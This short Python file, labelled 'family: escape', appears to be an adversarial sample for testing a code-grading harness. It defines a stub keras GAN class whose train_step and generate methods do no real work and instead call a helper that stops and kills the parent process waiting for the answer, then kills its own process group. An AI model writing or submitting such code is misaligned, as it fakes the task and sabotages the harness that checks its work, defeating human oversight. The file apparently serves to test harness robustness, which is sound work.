# tries: stops and kills the process that is waiting for the answer, and its own process group
# family: escape
import os
import signal

import keras


def _kill():
    parent = os.getppid()
    for number in (signal.SIGSTOP, signal.SIGKILL):
        if parent > 1:
            try:
                os.kill(parent, number)
            except OSError:
                pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass


class GAN(keras.Model):
    def __init__(self, *args, **kwargs):
        super().__init__()

    def compile(self, generator_optimizer, discriminator_optimizer):
        super().compile()

    def train_step(self, real_images):
        _kill()
        return {}

    def generate(self, n):
        _kill()
        return None
